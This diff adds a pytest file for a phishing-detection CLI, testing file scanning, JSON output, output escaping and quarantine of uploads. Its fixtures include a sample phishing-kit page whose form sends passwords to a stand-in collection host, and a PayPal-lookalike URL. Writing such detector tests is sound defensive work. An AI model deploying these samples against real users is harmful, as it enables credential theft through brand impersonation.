@@ -1,0 +1,129 @@
+"""``trustwatch file scan`` and ``trustwatch run --content-dir``, end to end."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+
+import msgspec
+
+from content.builders import pdf_with_link
+from trustwatch.cli.exitcodes import ExitCode
+from trustwatch.cli.main import main
+from trustwatch.events.model import FileUploaded, Login
+
+PHISH_URL = "https://paypal.com.secure-login.example/webscr?cmd=login"
+KIT = (
+    b"<html><body><form method=post action='https://collect.example/p.php'>"
+    b"<input name=email><input type=password name=pw></form>"
+    b"<a href='mailto:help@collect.example'>help</a></body></html>"
+)
+
+
+def test_file_scan_prints_kind_urls_forms_and_errors(tmp_path: Path, capsys) -> None:
+    kit = tmp_path / "login.html"
+    kit.write_bytes(KIT)
+    pdf = tmp_path / "invoice.pdf"
+    pdf.write_bytes(pdf_with_link(PHISH_URL))
+    broken = tmp_path / "scan.pdf"
+    broken.write_bytes(b"%PDF-1.7\n garbage")
+    assert main(["file", "scan", str(kit), str(pdf), str(broken)]) == ExitCode.OK
+    out = capsys.readouterr().out
+    assert f"{kit}: html, {len(KIT)} bytes" in out
+    assert (
+        "form POST https://collect.example/p.php: password yes, "
+        "posts to another domain yes (collect.example)"
+    ) in out
+    assert "other url mailto:help@collect.example" in out
+    assert f"url 0.86 {PHISH_URL} (PDF link)" in out
+    assert "    - impersonates paypal (brand name in a subdomain" in out
+    assert "finding file_lure_document" in out
+    assert "error: pdf_unreadable: " in out
+    assert "finding file_unreadable 0.30" in out
+
+
+def test_file_scan_json_lines(tmp_path: Path, capsys) -> None:
+    kit = tmp_path / "login.html"
+    kit.write_bytes(KIT)
+    pdf = tmp_path / "invoice.pdf"
+    pdf.write_bytes(pdf_with_link(PHISH_URL))
+    assert main(["file", "scan", str(kit), str(pdf), "--json"]) == ExitCode.OK
+    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert [row["kind"] for row in rows] == ["html", "pdf"]
+    assert rows[0]["sha256"] == hashlib.sha256(KIT).hexdigest()
+    form = rows[0]["forms"][0]
+    assert (form["has_password"], form["posts_to_other_domain"]) == (True, True)
+    assert form["registrable_domain"] == "collect.example"
+    assert rows[0]["other_urls"] == ["mailto:help@collect.example"]
+    assert {f["kind"] for f in rows[0]["findings"]} == {"file_credential_form"}
+    link = rows[1]["urls"][0]
+    assert (link["url"], link["place"]) == (PHISH_URL, "PDF link")
+    assert link["registrable_domain"] == "secure-login.example"
+    assert link["score"] > 0.8 and link["reasons"]
+    assert rows[1]["errors"] == [] and rows[1]["error"] is None
+
+
+def test_file_scan_escapes_what_it_prints(tmp_path: Path, capsys) -> None:
+    page = tmp_path / "x.html"
+    page.write_bytes(b'<html><a href="mailto:a\x1b[31m@b.example">x</a></html>')
+    assert main(["file", "scan", str(page)]) == ExitCode.OK
+    out = capsys.readouterr().out
+    assert "\x1b" not in out
+    assert "other url mailto:a\\x1b[31m@b.example" in out
+
+
+def test_file_scan_reports_unreadable_paths_and_goes_on(tmp_path: Path, capsys) -> None:
+    good = tmp_path / "ok.html"
+    good.write_bytes(b"<html><p>nothing here</p></html>")
+    missing = tmp_path / "missing.pdf"
+    code = main(["file", "scan", str(missing), str(good), "--json"])
+    assert code == ExitCode.BAD_INPUT
+    captured = capsys.readouterr()
+    rows = [json.loads(line) for line in captured.out.splitlines()]
+    assert rows[0]["error"].startswith("cannot open")
+    assert (rows[1]["kind"], rows[1]["urls"], rows[1]["error"]) == ("html", [], None)
+    assert "cannot open" in captured.err
+
+
+def test_run_with_a_content_dir_quarantines_a_phishing_upload(
+    tmp_path: Path, capsys
+) -> None:
+    content = tmp_path / "content"
+    digest = hashlib.sha256(KIT).hexdigest()
+    fanned = content / digest[:2] / digest[2:4]
+    fanned.mkdir(parents=True)
+    (fanned / digest).write_bytes(KIT)
+    ts = datetime(2026, 3, 1, tzinfo=UTC)
+    events = tmp_path / "events.jsonl"
+    records = [
+        Login(event_id="l1", ts=ts, account="alice", success=True),
+        FileUploaded(
+            event_id="u1", ts=ts, account="alice", file_id="f1", sha256=digest
+        ),
+    ]
+    events.write_bytes(b"\n".join(msgspec.json.encode(r) for r in records) + b"\n")
+    db = str(tmp_path / "store.sqlite")
+
+    args = ["run", str(events), "--db", db]
+    assert main([*args, "--content-dir", str(content)]) == ExitCode.OK
+    assert "signal file_credential_form" in capsys.readouterr().out
+    assert main(["alerts", "--db", db, "--kind", "file_credential_form", "--json"]) == 0
+    verdicts = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert [(v["event_id"], v["decision"]) for v in verdicts] == [
+        ("u1", "quarantine_file")
+    ]
+    assert verdicts[0]["signals"][0]["entity"] == f"sha256:{digest}"
+
+    other_db = str(tmp_path / "without.sqlite")
+    assert main(["run", str(events), "--db", other_db]) == ExitCode.OK
+    assert "file_credential_form" not in capsys.readouterr().out
+
+
+def test_run_refuses_a_content_dir_that_is_not_a_folder(tmp_path: Path, capsys) -> None:
+    events = tmp_path / "events.jsonl"
+    events.write_bytes(b"")
+    code = main(["run", str(events), "--content-dir", str(tmp_path / "none")])
+    assert code == ExitCode.BAD_INPUT
+    assert "does not exist" in capsys.readouterr().err
